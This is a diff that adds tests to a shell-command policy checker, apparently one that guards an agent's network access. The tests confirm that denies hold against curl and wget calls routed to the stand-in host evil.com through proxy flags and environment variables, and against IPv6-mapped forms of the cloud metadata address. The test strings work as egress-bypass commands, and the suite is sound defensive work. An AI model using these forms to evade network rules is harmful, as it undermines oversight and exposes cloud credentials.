@@ -106,3 +106,51 @@ describe("an allow of a host holds only when that host is all the call reaches",
     expect(d.decision).toBe("policy_allow");
   });
 });
+
+describe("a deny of a host holds for where curl and wget are sent besides their URLs", () => {
+  const noEvil = policy(
+    { effect: "deny", host: "evil.com" },
+    { effect: "allow", command: "curl" },
+    { effect: "allow", command: "wget" },
+  );
+  const noMetadata = policy({ effect: "deny", host: "169.254.169.254" }, { effect: "allow", command: "curl" });
+
+  it.each([
+    // A wgetrc line: its name in any case, with `-` or `_` or neither.
+    "wget -e http_proxy=evil.com a.org",
+    "wget -e https_proxy=evil.com a.org",
+    "wget --execute=http_proxy=evil.com a.org",
+    "wget --execute http_proxy=evil.com a.org",
+    "wget -qe 'HTTP-PROXY = evil.com' a.org",
+    "wget -e use_proxy=yes -e ftp_proxy=evil.com ftp://a.org",
+    // curl 7.88's `--no-NAME` booleans, and `--NAME` for those its help spells `--no-NAME`.
+    "curl --no-location evil.com",
+    "curl --no-silent --no-verbose evil.com",
+    "curl --no-location -x evil.com a.org",
+    "curl --progress-meter evil.com",
+    // A proxy variable, quoted or handed over by env.
+    "ALL_PROXY='evil.com' curl a.org",
+    "env ALL_PROXY=evil.com curl a.org",
+    "export https_proxy=evil.com; wget https://a.org",
+  ])("%s is denied", (command) => expect(judgeShell(command, noEvil).decision).toBe("policy_deny"));
+
+  it.each([
+    "curl --resolve a:80:[::ffff:169.254.169.254] http://a",
+    "curl --resolve 'a:80:[::ffff:169.254.169.254]' http://a",
+    "curl --resolve a:80:[::a9fe:a9fe] http://a",
+    "curl --connect-to 'a:80:[::ffff:a9fe:a9fe]:80' http://a",
+    "curl '[::ffff:a9fe:a9fe]'",
+    "curl -x '[::ffff:169.254.169.254]:80' http://a",
+  ])("%s is denied", (command) => expect(judgeShell(command, noMetadata).decision).toBe("policy_deny"));
+
+  it("a negated boolean no longer leaves an allowed host a question", () => {
+    const github = policy({ effect: "allow", host: "github.com" });
+    expect(judgeShell("curl --no-location --no-silent github.com", github).decision).toBe("policy_allow");
+  });
+
+  it("reads what stands before a word only known at run time", () => {
+    expect(urls('curl evil.com "$@"')).toEqual(["http://evil.com"]);
+    expect(urls('curl evil.com -x "$P" "$X"')).toEqual(["http://evil.com"]);
+    expect(urls('ssh -J evil.com "$@"')).toEqual(["ssh://evil.com"]);
+  });
+});
